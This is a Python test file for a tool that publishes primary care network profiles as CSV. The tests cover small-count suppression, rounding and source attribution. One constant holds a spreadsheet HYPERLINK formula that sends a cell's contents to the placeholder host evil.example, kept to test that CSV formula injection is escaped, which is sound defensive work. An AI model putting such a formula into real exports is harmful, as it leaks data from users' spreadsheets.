"""The one publishing path: suppression, tidy numbers, escaped CSV and the source, as the command line prints."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from geo.editions import EDITIONS
from targeting.cli import main
from targeting.publish import profiles_csv, suppress_profiles, table_csv
from targeting.scope import make_scope

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _printed(capsys, argv: list[str]) -> str:
    assert main(argv) == 0
    return capsys.readouterr().out


def _bradford_list(atlas, path) -> tuple[list[str], object]:
    """A user's list of three Bradford LSOAs, written to ``path``, and the PLUS rule the command line reads from it."""
    from targeting.plus import LsoaListRule

    lsoas = atlas.lsoa21
    codes = sorted(lsoas.loc[lsoas["lad_name"].eq("Bradford"), "lsoa_code"])[:3]
    path.write_text("lsoa_code\n" + "\n".join(codes) + "\n", encoding="utf-8")
    return codes, (LsoaListRule.across_vintages(codes, atlas.lsoa_bridge, label=f"on the list {path}"),)


@pytest.mark.slow
def test_an_icbs_pcns_through_the_publish_path_are_the_bytes_the_cli_prints(capsys, atlas):
    from targeting.precompute import finished_profiles

    printed = _printed(capsys, ["pcns", "--icb", "QWO"])
    table = finished_profiles(make_scope(atlas, kind="icb", code="QWO"), "pcns")
    assert profiles_csv(table, EDITIONS[2025], month=atlas.month) == printed
    df = pd.read_csv(io.StringIO(printed))
    assert len(df) > 30 and df["source"].str.contains("OGL v3").all()


@pytest.mark.slow
def test_a_users_list_is_suppressed_on_the_publish_path_as_the_cli_prints_it(capsys, atlas, tmp_path):
    from targeting.precompute import finished_profiles

    f = tmp_path / "sites.csv"
    _, rules = _bradford_list(atlas, f)
    printed = _printed(capsys, ["pcns", "--icb", "QWO", "--plus-lsoas", str(f), "--no-gaps"])
    table = finished_profiles(make_scope(atlas, kind="icb", code="QWO", plus_rules=rules), "pcns", gaps=False)
    assert profiles_csv(table, EDITIONS[2025], rules, month=atlas.month) == printed
    df = pd.read_csv(io.StringIO(printed), dtype=str)
    hidden = df["plus_patients"] == "*"  # 1 to 7 patients of a PCN live in the three LSOAs
    assert hidden.any() and (df.loc[hidden, ["plus_pct", "plus_vs_icb", "plus_vs_england"]] == "*").all().all()
    assert (df.loc[~hidden, "plus_patients"].astype(float) % 5 == 0).all()
    assert df["source"].str.contains("sites.csv").all()


def test_a_small_count_is_withheld_with_its_rate_and_flags():
    table = pd.DataFrame({"pcn_code": ["U1", "U2"], "plus_patients": [3.0, 121.0],
                          "patients_known_lsoa": [1000.0, 1000.0], "plus_pct": [0.3, 12.1],
                          "plus_pct_lower": [0.1, 10.2], "plus_pct_upper": [0.9, 14.2],
                          "plus_pct_icb": [6.1234, 6.1234], "plus_vs_icb": ["lower", "higher"],
                          "plus_vs_england": ["lower", "higher"]})
    out = suppress_profiles(table, user_data=True)
    hidden, shown = out.iloc[0], out.iloc[1]
    assert (hidden[["plus_patients", "plus_pct", "plus_vs_icb", "plus_vs_england"]] == "*").all()
    assert shown["plus_patients"] == 120 and shown["plus_pct"] == 12.0  # rounded to 5, rate from the published 120
    assert (out["plus_pct_icb"] == 6.1).all()  # an exact ICB rate would narrow the hidden count
    assert suppress_profiles(table, user_data=False) is table  # the default PLUS is published data: left alone


def test_a_formula_cell_is_escaped_and_numbers_are_tidied():
    table = pd.DataFrame({"pcn_code": ["U1"], "pcn_name": [HOSTILE], "registered_patients": [1234.0],
                          "core20_pct": [12.34567], "negative": [-0.5], "flag": [True]})
    text = profiles_csv(table, EDITIONS[2025])
    row = pd.read_csv(io.StringIO(text), dtype=str).iloc[0]
    assert row["pcn_name"] == "'" + HOSTILE  # opens as text in a spreadsheet, never as a formula
    assert (row["registered_patients"], row["core20_pct"], row["negative"]) == ("1234", "12.346", "-0.5")
    assert row["source"].endswith("OGL v3")
    assert table_csv(table[["flag"]]) == "flag\ntrue\n"
